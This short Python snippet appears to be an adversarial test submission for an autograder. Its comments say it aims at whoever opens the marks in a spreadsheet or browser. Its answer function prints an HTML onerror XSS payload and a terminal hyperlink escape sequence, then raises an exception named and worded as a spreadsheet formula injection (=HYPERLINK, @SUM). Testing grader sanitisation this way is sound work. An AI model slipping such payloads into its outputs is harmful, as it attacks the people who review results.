# Class: L
# Tries: to act on whoever opens the marks in a spreadsheet or the page in a browser.
# Not: a mark gained
# Prints: <img
# Then: raised =HYPERLINK
def answer(x):
    print("<img src=x onerror=alert(1)>\x1b]8;;http://example.org\x1b\\")
    raise type("=HYPERLINK", (Exception,), {})('("http://example.org", "marks"), @SUM(1), +1, -1')
